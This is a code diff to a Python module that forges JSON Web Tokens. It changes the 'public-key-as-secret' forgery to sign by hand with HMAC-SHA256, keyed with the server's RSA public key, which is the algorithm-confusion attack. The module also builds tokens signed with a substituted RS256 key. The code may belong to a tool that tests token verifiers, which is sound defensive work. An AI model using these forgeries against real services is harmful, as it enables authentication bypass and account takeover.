@@ -3,12 +3,13 @@
 from __future__ import annotations
 
 import base64
+import hmac
 import json
 from collections.abc import Mapping
 from typing import Any
 
 from joserfc import jwt
-from joserfc.jwk import KeySet, OctKey, RSAKey
+from joserfc.jwk import KeySet, RSAKey
 
 JsonObject = Mapping[str, Any]
 
@@ -34,8 +35,9 @@ def forged(token: str, jwks: JsonObject) -> dict[str, str]:
     kinds["foreign-key"] = jwt.encode({**head, "alg": "RS256"}, claims, key, algorithms=["RS256"])
     public = _public_key(head, jwks)
     if public is not None:
-        secret = OctKey.import_key(public)
-        kinds["public-key-as-secret"] = jwt.encode({**head, "alg": "HS256"}, claims, secret, algorithms=["HS256"])
+        signed = f"{_encoded({**head, 'alg': 'HS256'})}.{payload}"
+        mac = hmac.new(public, signed.encode(), "sha256").digest()
+        kinds["public-key-as-secret"] = f"{signed}.{_base64(mac)}"
     return kinds
 
 
@@ -67,4 +69,8 @@ def _decoded(part: str) -> dict[str, Any]:
 
 
 def _encoded(content: JsonObject) -> str:
-    return base64.urlsafe_b64encode(json.dumps(content).encode()).rstrip(b"=").decode()
+    return _base64(json.dumps(content).encode())
+
+
+def _base64(content: bytes) -> str:
+    return base64.urlsafe_b64encode(content).rstrip(b"=").decode()
